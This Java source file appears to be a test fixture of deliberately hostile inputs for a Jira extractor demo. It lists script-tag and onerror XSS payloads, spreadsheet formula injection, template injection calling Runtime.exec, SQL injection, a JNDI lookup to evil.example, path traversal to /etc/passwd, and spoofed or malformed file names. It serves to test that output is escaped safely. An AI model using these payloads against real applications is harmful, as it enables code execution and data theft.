package org.jiraextractor.demo.world;

import java.util.List;

/** Texts that mean harm to whoever shows them carelessly; each does something that a test can see. */
final class Hostile {

    static final String NAME = "<img src=x onerror=\"window.pwned='name'\">Mallory";
    static final String FIELD = "<script>window.pwned='field'</script>";
    static final String FORMULA = "=cmd|' /C calc'!A0";

    /** Summaries: scripts, formulas, templates, what XML 1.0 cannot hold, what UTF-8 cannot hold. */
    static final List<String> SUMMARIES = List.of(
            "<script>window.pwned='summary'</script>",
            "\"><img src=x onerror=window.pwned='attribute'>",
            FORMULA,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1 \t-2\r\n=HYPERLINK(\"http://evil.example\",\"ici\")",
            "${7*7} #{7*7} [[${7*7}]] [(${T(java.lang.Runtime).getRuntime().exec('id')})] {{7*7}} <%= 7*7 %>",
            "control \u0000\u0001\u0008\u000b\u000c\u001b\u001f\u007f\u0085\ufffe\uffff end",
            "half a pair \ud83d and the other \ude00 end",
            "]]> & &amp; &lt; <![CDATA[ x ]]> <!-- -- --> <?xml version=\"1.0\"?>",
            "'; DROP TABLE job; -- \\\" \\u0041 %s %n {0} ${jndi:ldap://evil.example/a}",
            "\u202eright to left\u202c \u200bzero\u200d width\ufeff e\u0301 \u2028 line \u2029 paragraph",
            "\ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67\u200d\ud83d\udc66 \ud83c\uddeb\ud83c\uddf7 Z\u0351\u036b\u0343\u032a\u0302a\u0322\u032elgo \ud835\udd18\ud835\udd2b\ud835\udd26 \ud842\udfb7");

    /** File names: paths, reserved ones, what no file system likes, what looks like another type than it is. */
    static final List<String> FILES = List.of(
            "../../etc/passwd",
            "..\\..\\windows\\system32\\drivers\\etc\\hosts",
            "CON.txt",
            "aux",
            "a%b;c.png",
            "\"quoted\" 'twice'.txt",
            "trailing dots...",
            " leading and trailing ",
            "\u202egnp.exe",
            "emoji \ud83d\ude80\ud83d\udd25.txt",
            "line\r\nbreak: Set-Cookie.txt",
            "nul\u0000byte.txt",
            "<svg onload=alert(1)>.svg",
            "=1+1.csv",
            ".htaccess",
            "fichier très long – " + "é漢字\ud83d\ude00".repeat(50) + ".txt");

    private Hostile() {
    }
}
